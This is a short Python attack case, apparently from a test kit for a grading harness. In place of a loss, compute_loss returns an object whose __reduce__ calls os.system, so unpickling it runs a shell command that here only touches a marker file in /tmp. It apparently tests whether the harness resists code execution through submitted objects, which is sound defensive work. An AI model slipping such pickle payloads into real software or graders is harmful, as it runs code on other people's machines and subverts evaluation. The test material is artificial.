# /// attack
# title = "An object that runs a command in whoever unpickles it, in the kit"
# exercise = "binary_classification"
# expect = { result = "at most", zero_for = ["loss"], full_for = ["shapes"], lost = ["unsupported", "wrong", "error"] }
# ///
import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{WORLD['mark']}-bomb",)


def compute_loss(h, y):
    return Bomb()
